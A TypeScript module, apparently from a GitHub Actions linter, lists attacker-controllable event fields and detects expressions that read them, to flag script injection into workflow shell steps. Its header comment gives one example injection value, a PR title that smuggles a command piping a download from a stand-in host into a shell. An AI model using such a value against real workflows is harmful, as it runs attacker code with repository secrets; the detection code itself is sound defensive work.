// Event fields an outside contributor controls (titles, bodies, branch names, commit messages, author names). Pasted into
// a shell script through `${{ }}`, they become code: `"; curl evil | sh #` as a PR title runs with your secrets.
// From GitHub's "Security hardening: understanding the risk of script injections" and actionlint's list.

const UNTRUSTED = [
  String.raw`github\.event\.(issue|pull_request|discussion)\.(title|body)`,
  String.raw`github\.event\.(comment|review|review_comment)\.body`,
  String.raw`github\.event\.pages\.[^.\s]+\.page_name`,
  String.raw`github\.event\.pages\.\*\.page_name`,
  String.raw`github\.event\.commits\.[^.\s]+\.(message|author\.(email|name))`,
  String.raw`github\.event\.head_commit\.(message|author\.(email|name))`,
  String.raw`github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)`,
  String.raw`github\.event\.workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title)`,
  String.raw`github\.event\.workflow_run\.pull_requests\.[^.\s]+\.head\.ref`,
  String.raw`github\.head_ref`,
];

const PATTERN = new RegExp(String.raw`(?<![\w.])(${UNTRUSTED.join('|')})(?![\w-])`);

/** The untrusted field an expression reads, if any. */
export function untrustedFieldIn(expression: string): string | undefined {
  return PATTERN.exec(expression)?.[1];
}
